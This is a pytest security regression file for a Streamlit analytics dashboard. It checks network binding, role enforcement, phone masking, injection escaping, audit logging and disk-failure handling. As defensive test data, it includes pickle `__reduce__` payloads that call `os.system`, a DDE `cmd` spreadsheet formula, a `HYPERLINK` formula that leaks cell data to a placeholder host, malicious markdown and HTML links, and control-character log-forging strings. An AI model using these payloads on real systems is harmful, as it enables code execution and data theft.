@@ -1,0 +1,653 @@
+"""Issue 19: defects found by trying to break the dashboard (binding, roles, masking, injection,
+audit), each reproduced through the real entry point."""
+
+from __future__ import annotations
+
+import pytest
+from streamlit import config as st_config
+
+from analytics import auth
+from tests.signing_in import shows_data, start, t_
+
+
+@pytest.fixture
+def roles_like_env(demo_db, demo_model_dir, tmp_path, monkeypatch):
+    """A private copy of the demo (sign-ins write to its audit log) with the session's models."""
+    import shutil
+
+    path = tmp_path / "roles.duckdb"
+    shutil.copy(demo_db, path)
+    monkeypatch.setenv("ANALYTICS_DB", str(path))
+    monkeypatch.setenv("ANALYTICS_MODEL_DIR", str(demo_model_dir))
+    return path
+
+
+@pytest.fixture
+def bound_to(monkeypatch):
+    """Set Streamlit's server.address for one test, as `streamlit run --server.address` would."""
+    before = st_config.get_option("server.address")
+
+    def bind(address: str | None) -> None:
+        st_config.set_option("server.address", address)
+
+    yield bind
+    st_config.set_option("server.address", before)
+
+
+@pytest.mark.parametrize("address", ["0.0.0.0", "192.168.1.20", None])
+def test_local_mode_refuses_to_serve_the_network_without_accounts(demo_env, bound_to, address):
+    bound_to(address)
+    at = start()
+    assert [e.value for e in at.error] == [t_("auth.network_without_accounts", address=address or "0.0.0.0")]
+    assert not shows_data(at) and at.session_state["_user"].role == "viewer"
+
+
+def test_local_mode_serves_the_network_without_accounts_only_when_the_setting_says_so(
+    demo_env, bound_to, monkeypatch
+):
+    from analytics.config import settings
+
+    bound_to("0.0.0.0")
+    monkeypatch.setitem(settings()["auth"], "serve_network_without_accounts", True)
+    at = start()
+    assert not at.error and len(at.metric) == 12
+
+
+def test_with_accounts_the_network_is_served_behind_the_sign_in_form(demo_env, with_accounts, bound_to):
+    bound_to("0.0.0.0")
+    at = start()
+    assert not at.error and at.title[0].value == t_("auth.title")
+
+
+@pytest.mark.parametrize(
+    ("address", "allowed"),
+    [
+        ("localhost", True),
+        ("127.0.0.1", True),
+        ("::1", True),
+        ("LOCALHOST ", True),
+        ("0.0.0.0", False),
+        ("", False),
+    ],
+)
+def test_which_addresses_local_mode_may_serve(address, allowed):
+    assert auth.local_mode_allowed(address, False) is allowed
+    assert auth.local_mode_allowed(address, True) is True
+
+
+def test_a_payload_file_put_into_the_marts_folder_is_never_unpickled(demo_db, tmp_path):
+    """A file written into <db>.marts/ ran a command when `report` read it."""
+    import os
+    import pickle
+    import shutil
+    import stat
+
+    from analytics import db, facts, marts, overview
+
+    path = tmp_path / "m.duckdb"
+    shutil.copy(demo_db, path)
+    con = db.connect(path)
+    call = marts.call_of(overview.overview, facts.available_months(con)[1], None)
+    marts.cached(con, call, keep=True)
+    version = db.data_version(con)
+    name = con.execute("SELECT file FROM marts WHERE name = $n", {"n": call.fn}).fetchone()[0]
+    folder = marts.folder(con)
+    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
+    assert stat.S_IMODE(os.stat(folder / name).st_mode) == 0o600
+    assert not list(folder.glob("*.tmp"))
+
+    witness = tmp_path / "ran"
+
+    class Exploit:
+        def __reduce__(self):
+            return (os.system, (f"touch {witness}",))
+
+    (folder / name).write_bytes(pickle.dumps(Exploit()))
+    assert marts.fetch(con, call, version) == (False, None)
+    assert not witness.exists()
+    # The page computes the result afresh instead.
+    assert marts.cached(con, call)["report"] is not None and not witness.exists()
+    con.close()
+
+
+def test_a_model_file_replaced_on_disk_is_never_unpickled(tmp_path, monkeypatch):
+    import os
+    import stat
+    import types
+
+    import joblib
+
+    from analytics import db, maintenance
+
+    monkeypatch.setenv("ANALYTICS_MODEL_DIR", str(tmp_path / "models"))
+    con = db.connect(tmp_path / "x.duckdb")
+    path = tmp_path / "models" / "maintenance-test.joblib"
+    monkeypatch.setattr(maintenance, "_model_path", lambda con, as_of: path)
+    monkeypatch.setattr(maintenance, "_resolve_as_of", lambda con, as_of: as_of)
+
+    # Stands in for a MaintenanceModel: only the file handling is under test.
+    saved = maintenance.save_model(con, types.SimpleNamespace(as_of=None))
+    assert saved == path and stat.S_IMODE(os.stat(path).st_mode) == 0o600
+    key = f"model_sha256:{path.name}"
+    assert con.execute("SELECT value FROM meta WHERE key = $k", {"k": key}).fetchone()[0]
+    witness = tmp_path / "ran"
+
+    class Exploit:
+        def __reduce__(self):
+            return (os.system, (f"touch {witness}",))
+
+    joblib.dump(Exploit(), path)
+    assert maintenance.load_model(con, as_of=__import__("datetime").date(2026, 1, 1)) is None
+    assert not witness.exists()
+    con.close()
+
+
+@pytest.mark.parametrize(
+    ("username", "offered"), [("liuyang", False), ("wangqiang", False), ("zhangli", True)]
+)
+def test_retraining_the_model_is_offered_only_to_roles_that_may_change_data(
+    roles_like_env, with_accounts, username, offered
+):
+    from tests.signing_in import sign_in
+
+    at = sign_in(username, page="pages/maintenance.py")
+    assert bool([b for b in at.button if b.key == "maint_retrain"]) == offered
+
+
+def test_a_write_is_refused_on_the_server_for_a_role_that_may_not_and_audited(writable_demo):
+    from streamlit.testing.v1 import AppTest
+
+    def script():
+        import streamlit as st
+
+        from ui import auth as ui_auth
+
+        st.session_state["_user"] = ui_auth.User("liuyang", "刘洋", "viewer")
+        st.session_state["results"] = [
+            ui_auth.authorize(a) for a in ("import", "demo", "rollback", "retrain")
+        ]
+        st.session_state["_user"] = ui_auth.User("zhangli", "张丽", "cs_lead")
+        st.session_state["results"].append(ui_auth.authorize("retrain"))
+
+    at = AppTest.from_function(script, default_timeout=60)
+    at.session_state["lang"] = "en"
+    at.run()
+    assert not at.exception, [e.message for e in at.exception]
+    assert at.session_state["results"] == [False, False, False, False, True]
+    assert [e.value for e in at.error] == [t_("auth.refused", role=t_("auth.role.viewer"))] * 4
+    from tests.signing_in import audit_rows
+
+    assert audit_rows()[-4:] == [
+        ("liuyang", "viewer", "refused", {"action": a}) for a in ("import", "demo", "rollback", "retrain")
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "masked"),
+    [
+        ("联系我１３９１２３４５６７８", "联系我139****5678"),
+        ("微信wx13700000001", "微信wx137****0001"),
+        ("张先生13700000009", "张先生137****0009"),
+        ("电话：+86 138-1234-5678，谢谢", "电话：138****5678，谢谢"),
+        ("ＷＸ：１３８　１２３４　５６７８", "ＷＸ：138****5678"),
+        ("工单2013812345678号", "工单2013812345678号"),  # thirteen digits: not a mobile
+        ("保养很好，１０分", "保养很好，１０分"),  # full-width text without a number stays as it was
+    ],
+)
+def test_mobile_numbers_inside_text_are_masked_after_full_width_digits_are_read_as_digits(text, masked):
+    assert auth.mask_text(text) == masked
+
+
+def test_a_phone_typed_into_the_name_field_is_masked_but_codes_are_not():
+    import pandas as pd
+
+    frame = pd.DataFrame(
+        {
+            "customer_name": ["张先生13700000009", "李女士"],
+            "vin": ["LSV13700000009123", "LFV2A21K3N4131234"],
+            "phone": ["13812341234", None],
+            "comment": ["加我微信wx13700000001", None],
+            "visits": [3, 1],
+        }
+    )
+    out = auth.mask_frame(frame).astype(object).fillna("—")
+    assert out.to_dict("list") == {
+        "customer_name": ["张先生137****0009", "李女士"],
+        "vin": ["LSV13700000009123", "LFV2A21K3N4131234"],
+        "phone": ["138****1234", "—"],
+        "comment": ["加我微信wx137****0001", "—"],
+        "visits": [3, 1],
+    }
+
+
+def _deck_with(table_rows, categories, series_name="=cmd|' /C calc'!A0"):
+    from analytics import deck
+
+    slide = deck.Slide(
+        "changes",
+        "标题",
+        "联系我１３９１２３４５６７８",
+        table=[["customer", "comment"], *table_rows],
+        marks=[None] * (1 + len(table_rows)),
+        widths=[1.0, 3.0],
+    )
+    chart = deck.Slide(
+        "praise",
+        "车型",
+        "",
+        charts=[
+            deck.Chart(
+                "c", "column", "by model", categories, [deck.Series(series_name, [1.0] * len(categories))]
+            )
+        ],
+    )
+    return deck.render([slide, chart], "footer")
+
+
+def test_the_deck_masks_phones_in_every_text_it_shows():
+    import io
+
+    from pptx import Presentation
+
+    blob = _deck_with([["张先生13700000009", "微信wx13700000001"]], ["A"])
+    texts = []
+    for slide in Presentation(io.BytesIO(blob)).slides:
+        for shape in slide.shapes:
+            if shape.has_text_frame:
+                texts.append(shape.text_frame.text)
+            if shape.has_table:
+                texts += [c.text for row in shape.table.rows for c in row.cells]
+    joined = "\n".join(texts)
+    assert "张先生137****0009" in joined and "微信wx137****0001" in joined and "139****5678" in joined
+    assert "13700000009" not in joined and "5678" in joined
+
+
+def test_the_decks_embedded_chart_workbooks_hold_no_formula_made_from_data():
+    """A car model `=HYPERLINK("http://…"&A1,"点我")` became a <f> formula in the embedded workbook."""
+    import io
+    import zipfile
+
+    import openpyxl
+    from pptx import Presentation
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
+    blob = _deck_with([["a", "b"]], [hostile, "+SUM(1,2)", "途观L"])
+    chart = next(
+        s.chart for slide in Presentation(io.BytesIO(blob)).slides for s in slide.shapes if s.has_chart
+    )
+    workbook_blob = chart.part.chart_workbook.xlsx_part.blob
+    with zipfile.ZipFile(io.BytesIO(workbook_blob)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    cells = [
+        c.value for row in openpyxl.load_workbook(io.BytesIO(workbook_blob)).active.iter_rows() for c in row
+    ]
+    assert "'" + hostile in cells and "'+SUM(1,2)" in cells and "途观L" in cells
+    assert "'=cmd|' /C calc'!A0" in cells
+
+
+def test_list_exports_neutralise_formula_column_names_too():
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from analytics import export
+
+    frame = pd.DataFrame({'=HYPERLINK("x")': ["=1+1"], "model": pd.Series(["@SUM(A1)"], dtype="category")})
+    book = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(frame)))
+    values = [c.value for row in book.active.iter_rows() for c in row]
+    assert values == ['\'=HYPERLINK("x")', "model", "'=1+1", "'@SUM(A1)"]
+    assert export.csv_bytes(frame).decode("utf-8-sig").splitlines()[0].startswith("\"'=HYPERLINK")
+
+
+@pytest.mark.parametrize(
+    ("data", "shown"),
+    [
+        (
+            "[点我领取保养券](https://evil.example/x)",
+            "\\[点我领取保养券\\]\\(https\\:\\/\\/evil\\.example\\/x\\)",
+        ),
+        (
+            '<a href="https://evil.example">陈静</a>',
+            '\\<a href\\=\\"https\\:\\/\\/evil\\.example\\"\\>陈静\\<\\/a\\>',
+        ),
+        ("很好\n# 标题", "很好 \\# 标题"),
+        ("服务态度好", "服务态度好"),
+    ],
+)
+def test_data_in_markdown_is_escaped_so_it_shows_as_text(data, shown):
+    from ui.formatting import plain
+
+    assert plain(data) == shown
+
+
+def test_advisor_names_on_chart_axes_are_html_escaped_so_plotly_draws_no_link():
+    import numpy as np
+    import plotly.graph_objects as go
+
+    from ui.charts import escape_data
+
+    hostile = '<a href="https://evil.example">陈静</a>'
+    fig = go.Figure(
+        go.Bar(y=np.array([hostile, "王强"], dtype=object), x=[3, 4], name="<b>门店</b>", orientation="h")
+    )
+    fig.update_yaxes(categoryarray=["王强", hostile])
+    escape_data(fig)
+    assert list(fig.data[0].y) == ['&lt;a href="https://evil.example"&gt;陈静&lt;/a&gt;', "王强"]
+    assert fig.data[0].name == "&lt;b&gt;门店&lt;/b&gt;"
+    assert list(fig.layout.yaxis.categoryarray) == [
+        "王强",
+        '&lt;a href="https://evil.example"&gt;陈静&lt;/a&gt;',
+    ]
+    assert list(fig.data[0].x) == [3, 4]
+    assert "<a " not in fig.to_json()
+
+
+def test_ctrl_c_during_the_results_rebuild_stops_within_a_second(tmp_path):
+    """`marts.rebuild` caught Exception, which swallowed DuckDB's interrupt: 85 s to stop."""
+    import os
+    import signal
+    import subprocess
+    import sys
+    import time
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[1]
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "tests.rebuild_driver", str(tmp_path / "r.duckdb")],
+        cwd=root,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env={**os.environ, "PYTHONUNBUFFERED": "1"},
+        # As a terminal delivers it: a harness may start us with SIGINT ignored, which children inherit.
+        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
+    )
+    try:
+        assert proc.stdout is not None
+        while "slow" not in proc.stdout.readline():
+            assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
+        time.sleep(0.5)  # inside the query
+        sent = time.monotonic()
+        proc.send_signal(signal.SIGINT)
+        assert proc.stderr is not None
+        first = proc.stderr.readline()  # printed the moment the command stops
+        stopped = time.monotonic() - sent
+        out, err = proc.communicate(timeout=30)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+    err = first + err
+    assert "second" not in out
+    assert proc.returncode == 130, err
+    assert err.strip() == "interrupted; the database keeps its state from before this command."
+    assert stopped < 1.0, stopped
+
+
+def _damaged_copy(demo_db, tmp_path):
+    """A copy of the demo whose data blocks are overwritten: DuckDB reports a checksum mismatch."""
+    import shutil
+
+    path = tmp_path / "damaged.duckdb"
+    shutil.copy(demo_db, path)
+    size = path.stat().st_size
+    with path.open("r+b") as handle:
+        handle.seek(size // 3)
+        handle.write(b"\0" * (size // 2))
+    return path
+
+
+def _cli(*args, models=None):
+    import os
+    import subprocess
+    import sys
+    import tempfile
+    from pathlib import Path
+
+    env = {**os.environ, "ANALYTICS_MODEL_DIR": str(models or Path(tempfile.mkdtemp()) / "models")}
+    return subprocess.run(
+        [sys.executable, "-m", "analytics", *args],
+        cwd=Path(__file__).resolve().parents[1],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env=env,
+    )
+
+
+def test_a_damaged_database_gives_one_sentence_exit_2_and_points_to_the_latest_backup(demo_db, tmp_path):
+    from analytics import db
+
+    path = _damaged_copy(demo_db, tmp_path)
+    done = _cli("report", "--month", "2026-09", "--db", str(path))
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert done.stderr.startswith(f"error: The database {path} is damaged and cannot be read (")
+    assert done.stderr.count("\n") == 1 and "there is no backup of it" in done.stderr
+    # With a backup, the sentence names the command that restores it.
+    folder = db.backup_dir(path)
+    folder.mkdir()
+    (folder / "damaged-20261201-000000-000000.duckdb").write_bytes(b"")
+    done = _cli("audit", "--db", str(path))
+    assert done.returncode == 2
+    assert (
+        f"restore the latest backup with `python -m analytics restore "
+        f"{folder / 'damaged-20261201-000000-000000.duckdb'} --db {path}`."
+    ) in done.stderr
+
+
+def test_a_stale_write_ahead_log_gets_a_sentence_saying_what_to_do(tmp_path):
+    import duckdb
+
+    other = tmp_path / "other.duckdb"
+    con = duckdb.connect(str(other))
+    con.execute("PRAGMA disable_checkpoint_on_shutdown")
+    con.execute("CREATE TABLE t AS SELECT range AS i FROM range(10)")
+    con.execute("INSERT INTO t SELECT range FROM range(1000)")
+    con.close()
+    path = tmp_path / "main.duckdb"
+    duckdb.connect(str(path)).close()
+    (tmp_path / "other.duckdb.wal").rename(tmp_path / "main.duckdb.wal")
+    done = _cli("audit", "--db", str(path))
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert done.stderr.startswith(
+        f"error: The database {path} cannot be opened: its write-ahead log {path}.wal does not belong to it"
+    )
+    assert "Move main.duckdb.wal out of the folder and open the database again" in done.stderr
+
+
+def test_backup_while_open_and_restore_bring_back_the_data_and_audit_both(demo_db, tmp_path):
+    import os
+    import shutil
+    import stat
+
+    from analytics import backup, db
+
+    path = tmp_path / "live.duckdb"
+    shutil.copy(demo_db, path)
+    con = db.connect(path)
+    orders = con.execute("SELECT count(*) FROM service_orders").fetchone()[0]
+    kept = backup.backup(con)  # while this connection holds the file, as the dashboard does
+    assert kept.parent == db.backup_dir(path) and stat.S_IMODE(os.stat(kept).st_mode) == 0o600
+    assert stat.S_IMODE(os.stat(kept.parent).st_mode) == 0o700
+    assert not list(kept.parent.glob("*.partial*"))
+    con.execute("DELETE FROM service_orders")
+    con.close()
+    done = _cli("restore", str(kept), "--db", str(path))
+    assert done.returncode == 0, done.stderr
+    con = db.connect(path)
+    assert con.execute("SELECT count(*) FROM service_orders").fetchone()[0] == orders
+    assert (
+        con.execute("SELECT action FROM audit_log ORDER BY audit_id DESC LIMIT 1").fetchone()[0] == "restore"
+    )
+    con.close()
+    assert list(tmp_path.glob("live.duckdb.replaced-*"))
+    done = _cli("backup", "--db", str(path))
+    assert done.returncode == 0 and done.stdout.startswith("backup written to ")
+
+
+def test_browsers_get_no_tracebacks_and_a_damaged_database_gets_a_sentence(demo_db, tmp_path, monkeypatch):
+    import tomllib
+    from pathlib import Path
+
+    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
+    assert config["client"]["showErrorDetails"] == "none"
+    path = _damaged_copy(demo_db, tmp_path)
+    monkeypatch.setenv("ANALYTICS_DB", str(path))
+    at = start()
+    assert not at.exception
+    assert [e.value for e in at.error][0].startswith(f"The database {path} is damaged and cannot be read (")
+
+
+def test_command_line_list_exports_and_the_demo_are_audited(demo_db, tmp_path):
+    """`churn --out` wrote 7,901 phones and `audit` said "empty"; the demo import was not recorded."""
+    import json
+    import shutil
+
+    path = tmp_path / "cli.duckdb"
+    shutil.copy(demo_db, path)
+    out = tmp_path / "calls.csv"
+    done = _cli("churn", "--as-of", "2026-09-30", "--out", str(out), "--db", str(path))
+    assert done.returncode == 0, done.stderr
+    rows = len(out.read_text(encoding="utf-8-sig").splitlines()) - 1
+    done = _cli("audit", "--json", "--db", str(path))
+    events = json.loads(done.stdout)
+    assert [(e["role"], e["action"]) for e in events[:1]] == [("cli", "export")]
+    assert events[0]["detail"] == {
+        "what": "churn_list",
+        "file": str(out),
+        "file_format": "csv",
+        "rows": rows,
+        "has_phone": True,
+    }
+    demo_path = tmp_path / "demo.duckdb"
+    done = _cli("demo", "--scale", "0.02", "--stores", "1", "--no-marts", "--db", str(demo_path))
+    assert done.returncode == 0, done.stderr
+    events = json.loads(_cli("audit", "--json", "--action", "import", "--db", str(demo_path)).stdout)
+    assert [(e["role"], e["detail"]["file"], e["detail"]["kind"]) for e in events] == [
+        ("cli", "demo", "demo")
+    ]
+
+
+def test_audit_lines_escape_control_characters_so_a_user_name_cannot_forge_a_line(tmp_path):
+    from analytics import audit, db
+
+    path = tmp_path / "a.duckdb"
+    con = db.connect(path)
+    forged = "mallory\x1b[2K\r2026-12-01 09:00:00  zhangli (cs_lead)  sign_in\u202e"
+    audit.record(con, forged, "none", "sign_in_failed", {"reason": "wrong\nline"})
+    con.close()
+    done = _cli("audit", "--db", str(path))
+    assert done.returncode == 0
+    line = done.stdout.rstrip("\n")
+    assert "\x1b" not in line and "\r" not in line and "\u202e" not in line and "\n" not in line
+    assert line.endswith(
+        "  mallory\\x1b[2K\\r2026-12-01 09:00:00  zhangli (cs_lead)  sign_in\\u202e (none)  sign_in_failed  "
+        "reason=wrong\\nline"
+    )
+
+
+@pytest.mark.parametrize(
+    ("username", "shown"), [("zhangli", True), ("wangqiang", True), ("chenjing", False), ("liuyang", False)]
+)
+def test_the_audit_log_is_shown_on_the_data_page_to_the_cs_lead_and_the_manager(
+    roles_like_env, with_accounts, username, shown
+):
+    from tests.signing_in import sign_in
+
+    at = sign_in(username, page="pages/data.py")
+    assert (t_("data.tab_audit") in [tab.label for tab in at.tabs]) is shown
+    logs = [d for d in at.dataframe if "action" in d.value.columns and "who" in d.value.columns]
+    if shown:
+        assert (
+            logs and logs[0].value["action"].iloc[0] == "sign_in" and logs[0].value["who"].iloc[0] == username
+        )
+    else:
+        assert not logs
+
+
+def _enospc(*args, **kwargs):
+    import errno
+
+    raise OSError(errno.ENOSPC, "No space left on device")
+
+
+def test_a_full_disk_while_writing_a_kept_result_leaves_no_temporary_file(tmp_path, monkeypatch):
+    from analytics import private_files
+
+    target = tmp_path / "kept" / "x.pickle"
+    real = private_files.os.fdopen
+
+    def full_fdopen(fd, mode):
+        handle = real(fd, mode)
+        handle.write = _enospc
+        return handle
+
+    monkeypatch.setattr(private_files.os, "fdopen", full_fdopen)
+    with pytest.raises(OSError, match="No space left"):
+        private_files.write_private(target, b"x" * 1000)
+    assert list(target.parent.iterdir()) == []
+
+
+def test_a_full_disk_stops_the_results_rebuild_with_a_sentence_instead_of_success(
+    demo_db, tmp_path, monkeypatch
+):
+    import shutil
+
+    from analytics import db, facts, marts, overview, private_files
+    from analytics.errors import DiskFull
+
+    path = tmp_path / "full.duckdb"
+    shutil.copy(demo_db, path)
+    con = db.connect(path)
+    monkeypatch.setattr(private_files, "write_private", _enospc)
+    call = marts.call_of(overview.overview, facts.available_months(con)[1], None)
+    # A page still gets its result (it is not kept) ...
+    assert marts.cached(con, call, keep=True)["report"] is not None
+    # ... but the rebuild, whose job is keeping them, stops and says why and how much to free.
+    with pytest.raises(DiskFull) as caught:
+        marts.rebuild(con, [call])
+    assert str(caught.value).startswith(f"The disk holding {path.parent}.marts is full (") or str(
+        caught.value
+    ).startswith(f"The disk holding {tmp_path} is full (")
+    assert "free at least" in str(caught.value) and "MB there, then run it again." in str(caught.value)
+    con.close()
+
+
+def test_a_full_disk_in_a_write_transaction_is_a_sentence_even_when_duckdb_ended_the_transaction(tmp_path):
+    import duckdb
+
+    from analytics import db
+    from analytics.errors import DiskFull
+
+    con = db.connect(tmp_path / "w.duckdb")
+    with pytest.raises(DiskFull, match=r"^The disk holding .* is full \("):
+        with db.write_transaction(con) as cur:
+            cur.execute("CREATE TABLE t (i INTEGER)")
+            cur.execute("ROLLBACK")  # as DuckDB does to a transaction it cannot write
+            raise duckdb.IOException('IO Error: Could not write file "w.duckdb.wal": No space left on device')
+    con.close()
+
+
+def test_on_a_really_full_disk_the_marts_command_says_so_and_cleans_up(demo_db, tmp_path):
+    import shutil
+    import subprocess
+
+    mount = tmp_path / "small"
+    mount.mkdir()
+    size = demo_db.stat().st_size + 600_000
+    if subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mount)], capture_output=True
+    ).returncode:
+        pytest.skip("cannot mount a small tmpfs here (not root)")
+    try:
+        path = mount / "d.duckdb"
+        shutil.copy(demo_db, path)
+        done = _cli("marts", "--db", str(path))
+        assert done.returncode == 2, (done.stdout, done.stderr)
+        assert "page results computed" not in done.stdout
+        assert done.stderr.startswith("error: The disk holding ") and " is full (" in done.stderr
+        assert "Traceback" not in done.stderr
+        assert not [p for p in mount.rglob("*") if p.name.endswith((".tmp", ".partial"))]
+    finally:
+        subprocess.run(["umount", str(mount)], check=False)
